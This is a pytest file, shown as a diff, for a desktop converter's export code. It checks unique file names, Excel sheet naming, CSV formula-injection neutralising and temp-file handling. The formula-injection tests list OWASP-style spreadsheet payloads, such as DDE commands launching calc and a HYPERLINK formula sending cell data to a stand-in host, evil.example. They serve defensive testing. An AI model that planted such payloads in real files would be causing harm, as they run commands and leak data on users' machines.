@@ -1,0 +1,257 @@
+"""Exports that are safe to open and never overwrite each other (issue 10 §5): unique file names
+within an export, CSV formulas neutralised unless asked otherwise, XLSX scratch kept beside the
+output."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import subprocess
+import sys
+import tempfile
+import zipfile
+from pathlib import Path
+from types import SimpleNamespace
+
+import openpyxl
+import pytest
+
+from ret_desktop.core.convert import ConvertOptions, convert_documents, convert_to_folder, export_tables, export_zip
+from ret_desktop.core.export import (
+    excel_sheet_name,
+    neutralise_formula,
+    unique_file_stems,
+    write_csv,
+    write_patch_log,
+    write_xlsx,
+)
+from ret_desktop.core.importing import take_in
+from ret_desktop.core.workbook import Workbook
+
+
+def _write(folder: Path, name: str, text: str) -> Path:
+    path = folder / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _read_csv(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+# ---------------------------------------------------------------- 1. unique names
+
+def test_file_stems_are_unique_ignoring_case_and_deterministic():
+    names = ["A:B", "A_B", "a_b", "A_B (2)", "A?B", "CON", "x" * 200, "x" * 200 + "y", " . "]
+    stems = unique_file_stems(names)
+    assert stems == ["A_B", "A_B (2)", "a_b (3)", "A_B (2) (2)", "A_B (4)", "CON_", "x" * 150,
+                     "x" * 150 + " (2)", "table"]
+    assert len({s.casefold() for s in stems}) == len(names)
+    assert unique_file_stems(names) == stems
+
+
+def test_two_groups_whose_names_differ_only_in_unsafe_characters_keep_both_tables(tmp_path):
+    # Folders "A:B" and "A_B" are two groups; both used to go to "in_A_B.csv", one table lost.
+    _write(tmp_path / "in" / "A:B", "a.xml", "<r><rec><v>colon 1</v></rec><rec><v>colon 2</v></rec></r>")
+    _write(tmp_path / "in" / "A_B", "b.xml", "<r><rec><v>under 1</v></rec><rec><v>under 2</v></rec></r>")
+    out = tmp_path / "out"
+    convert_to_folder([tmp_path / "in"], out, ConvertOptions(group_by="folder"), ("csv", "xlsx"), zip_name="all.zip")
+    manifest = json.loads((out / "manifest.json").read_text())
+    files = {t["name"]: t["files"] for t in manifest["tables"]}
+    assert files == {"in/A:B": ["in_A_B.csv", "in_A_B.xlsx"], "in/A_B": ["in_A_B (2).csv", "in_A_B (2).xlsx"]}
+    for name, (csv_name, xlsx_name) in files.items():
+        expected = "colon" if ":" in name else "under"
+        assert [row[2] for row in _read_csv(out / csv_name)[1:]] == [f"{expected} 1", f"{expected} 2"]
+        sheet = openpyxl.load_workbook(out / xlsx_name).active
+        assert [c.value for c in sheet["C"]][1:] == [f"{expected} 1", f"{expected} 2"]
+    with zipfile.ZipFile(out / "all.zip") as archive:
+        assert sorted(archive.namelist()) == sorted(f for fs in files.values() for f in fs)
+
+
+def test_child_tables_differing_in_case_or_unsafe_characters_export_to_different_files(tmp_path):
+    # Relational mode: x:item, x_item, Item and item each repeat, and each becomes a child table.
+    items = "".join(f"<x:item>p{k}</x:item><x_item>u{k}</x_item><Item>C{k}</Item><item>c{k}</item>" for k in (1, 2))
+    doc = _write(tmp_path / "in", "LIB_1.xml", f'<lib xmlns:x="urn:x"><rec><t>a</t>{items}</rec>'
+                                             f'<rec><t>b</t>{items}</rec></lib>')
+    report = take_in([doc], tmp_path / "extracted")
+    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
+        result = convert_documents(report, workbook, ConvertOptions(mode="relational"))
+        children = {t.name for t in result.tables} - {"LIB"}
+        assert children == {"LIB.x:item", "LIB.x_item", "LIB.Item", "LIB.item"}
+        zip_path = export_zip(workbook, result.tables, tmp_path / "out" / "all.zip", ("csv", "xlsx"))
+    with zipfile.ZipFile(zip_path) as archive:
+        names = archive.namelist()
+        assert len({n.casefold() for n in names}) == len(names) == 10
+        by_table = {t.name: t.files for t in result.tables}
+        for table, first in (("LIB.x:item", "p1"), ("LIB.x_item", "u1"), ("LIB.Item", "C1"), ("LIB.item", "c1")):
+            rows = list(csv.reader(archive.read(by_table[table][0]).decode("utf-8").splitlines()))
+            assert rows[1][-1] == first, table
+    assert os.listdir(tmp_path / "out") == ["all.zip"]
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("'quoted'", "quoted"),
+    ("a[1]:b*c?d/e\\f", "a_1__b_c_d_e_f"),
+    ("History", "History_"),
+    ("'", "Sheet"),
+    ("n" * 40, "n" * 31),
+])
+def test_sheet_names_follow_excels_rules(tmp_path, name, expected):
+    assert excel_sheet_name(name) == expected
+    write_xlsx(tmp_path / "t.xlsx", ["v"], [[[str(i)] for i in range(5)]], sheet_name=name, max_rows_per_sheet=2)
+    sheets = openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames
+    assert sheets[0] == expected and len(sheets) == 3
+    assert all(len(s) <= 31 for s in sheets) and len({s.casefold() for s in sheets}) == 3
+    assert sheets[2] == excel_sheet_name(name, " (3)")
+
+
+# ---------------------------------------------------------------- 2. formula injection
+
+# OWASP's CSV-injection examples and their relatives: each would run in a spreadsheet.
+FORMULAS = [
+    "=cmd|'/c calc'!A1",
+    "=cmd|' /C notepad'!'A1'",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",  # full-width =
+    "\uff0bcmd|'/c calc'!A1",
+]
+NOT_FORMULAS = ["-5", "+44 20 7946 0958", "-1.5e3", "+1.5E-3", "-0.5", "-.5", "1,234.5", "-1 234,5", "1e5",
+                "02", "abc", "a=b", " =1+1", "", "-", "+", "'=1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_formula_gets_a_leading_quote(value):
+    assert neutralise_formula(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", NOT_FORMULAS)
+def test_plain_numbers_and_text_stay_as_they_are(value):
+    assert neutralise_formula(value) == value
+
+
+def test_write_csv_neutralises_by_default_and_raw_writes_untouched(tmp_path):
+    rows = [[value, str(i), "plain"] for i, value in enumerate(FORMULAS + NOT_FORMULAS)]
+    rows.append(["a,=b", "=x,y", '"=q"'])  # quoted fields: only those starting with a trigger
+    write_csv(tmp_path / "safe.csv", ["v", "n", "p"], [rows[:5], rows[5:]])
+    write_csv(tmp_path / "raw.csv", ["v", "n", "p"], [rows], raw=True)
+    safe, raw = _read_csv(tmp_path / "safe.csv"), _read_csv(tmp_path / "raw.csv")
+    assert raw[1:] == rows
+    assert safe[1:] == [[neutralise_formula(v) for v in row] for row in rows]
+    assert safe[-1] == ["a,=b", "'=x,y", '"=q"']
+    assert {row[0] for row in safe[1:] if row[0].startswith("'")} == {"'" + f for f in FORMULAS} | {"'=1+1"}
+
+
+@pytest.mark.parametrize("position", [0, 1, 2])
+def test_a_formula_alone_in_its_batch_is_found_in_any_field(tmp_path, position):
+    # The batch's text is searched first; a formula in the first field of the first line, the only
+    # one of its batch, must not slip through that search.
+    for number, value in enumerate(FORMULAS):
+        row = ["a", "b", "c"]
+        row[position] = value
+        path = tmp_path / f"{number}.csv"
+        write_csv(path, ["x", "y", "z"], [[row]])
+        assert _read_csv(path)[1][position] == "'" + value, repr(value)
+
+
+def _convert_hostile(tmp_path):
+    values = ["=cmd|'/c calc'!A1", "-5", "+44 20 7946 0958", "@SUM(A1)", "plain", "-1.5e3", "+1+1"]
+    records = "".join(f"<rec><v>{v}</v><n>{i}</n></rec>" for i, v in enumerate(values * 400))
+    folder = tmp_path / "in"
+    doc = _write(folder, "=HYPERLINK(x).xml", f"<r>{records}</r>")
+    return doc, values
+
+
+@pytest.mark.parametrize("csv_raw", [False, True])
+def test_the_csv_copy_of_a_conversion_neutralises_exactly_as_reading_back(tmp_path, csv_raw):
+    doc, values = _convert_hostile(tmp_path)
+    report = take_in([doc], tmp_path / "extracted")
+    with Workbook(tmp_path / "workbook.sqlite", scratch=True) as workbook:
+        workbook.keep_csv_copies(tmp_path)
+        result = convert_documents(report, workbook, ConvertOptions())
+        (table,) = result.tables
+        copy = workbook.csv_copy(table.name)
+        assert copy is not None and copy.neutralised
+        assert copy.copyable(len(table.columns)) and not copy.copyable(len(table.columns), raw=True)
+        (exported,) = export_tables(workbook, result.tables, tmp_path / "out", ("csv",), csv_raw=csv_raw)
+        write_csv(tmp_path / "back.csv", workbook.columns(table.name), workbook.iter_batches(table.name), raw=csv_raw)
+    assert exported.read_bytes() == (tmp_path / "back.csv").read_bytes()
+    rows = _read_csv(exported)
+    assert rows[0] == ["_file", "_record", "v", "n"]
+    keep = (lambda v: v) if csv_raw else neutralise_formula
+    assert [row[2] for row in rows[1:8]] == [keep(v) for v in values]
+    assert rows[1][0] == ("=HYPERLINK(x).xml" if csv_raw else "'=HYPERLINK(x).xml")
+
+
+def test_convert_command_neutralises_by_default_and_says_so(tmp_path):
+    doc, _values = _convert_hostile(tmp_path)
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "RET_DATA_DIR": str(tmp_path / "data")}
+    for flag, out in (([], "safe"), (["--csv-raw"], "raw")):
+        subprocess.run([sys.executable, "-m", "ret_desktop", "convert", str(doc), "--out", str(tmp_path / out),
+                        "--format", "both", *flag], check=True, capture_output=True, timeout=120, env=env)
+    for out, mode, first in (("safe", "neutralised", "'=cmd|'/c calc'!A1"), ("raw", "raw", "=cmd|'/c calc'!A1")):
+        manifest = json.loads((tmp_path / out / "manifest.json").read_text())
+        assert manifest["csv_formulas"] == mode
+        (table,) = manifest["tables"]
+        rows = _read_csv(tmp_path / out / table["files"][0])
+        assert rows[1][2] == first and rows[2][2] == "-5" and rows[3][2] == "+44 20 7946 0958"
+        # XLSX stores every value as a string, never a formula, in both modes.
+        sheet = openpyxl.load_workbook(tmp_path / out / table["files"][1]).active
+        cell = sheet["C2"]
+        assert cell.value == "=cmd|'/c calc'!A1" and cell.data_type == "s"
+        assert sheet["A2"].value == "=HYPERLINK(x).xml" and sheet["A2"].data_type == "s"
+
+
+def test_the_patch_log_neutralises_edited_values(tmp_path):
+    entry = SimpleNamespace(at=0.0, table="T", row_id=1, column="v", old="-5", new="=cmd|'/c calc'!A1", op="set")
+    write_patch_log(tmp_path / "log.csv", [entry])
+    write_patch_log(tmp_path / "raw.csv", [entry], raw=True)
+    assert _read_csv(tmp_path / "log.csv")[1][3:6] == ["v", "-5", "'=cmd|'/c calc'!A1"]
+    assert _read_csv(tmp_path / "raw.csv")[1][5] == "=cmd|'/c calc'!A1"
+
+
+# ---------------------------------------------------------------- 3. XLSX scratch
+
+def test_xlsx_scratch_stays_beside_the_output_and_goes(tmp_path, monkeypatch):
+    system_temp = tmp_path / "system-temp"
+    system_temp.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))  # what TMPDIR sets for this process
+    out = tmp_path / "out"
+    secret = "cell text that must not leave the output folder"
+    seen: dict[str, list[Path]] = {}
+
+    def batches():
+        yield [[f"{secret} {i}"] for i in range(500)]
+        # xlsxwriter has written those rows to its scratch by now (constant_memory streams rows).
+        seen["system temp"] = list(system_temp.rglob("*"))
+        seen["holding the text"] = [p for p in tmp_path.rglob("*") if p.is_file() and secret.encode() in p.read_bytes()]
+        yield [["last"]]
+
+    assert write_xlsx(out / "t.xlsx", ["v"], batches()) == 501
+    assert seen["system temp"] == []
+    assert seen["holding the text"] and all(out in p.parents for p in seen["holding the text"])
+    assert list(system_temp.iterdir()) == [] and [p.name for p in out.iterdir()] == ["t.xlsx"]
+
+
+def test_convert_to_xlsx_leaves_nothing_in_the_system_temp_folder(tmp_path):
+    doc, _values = _convert_hostile(tmp_path)
+    system_temp = tmp_path / "system-temp"
+    system_temp.mkdir()
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "RET_DATA_DIR": str(tmp_path / "data"),
+           "TMPDIR": str(system_temp)}
+    subprocess.run([sys.executable, "-m", "ret_desktop", "convert", str(doc), "--out", str(tmp_path / "out"),
+                    "--format", "xlsx", "--zip", "all.zip"], check=True, capture_output=True, timeout=120, env=env)
+    assert list(system_temp.iterdir()) == []
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["MISC.xlsx", "all.zip", "manifest.json"]
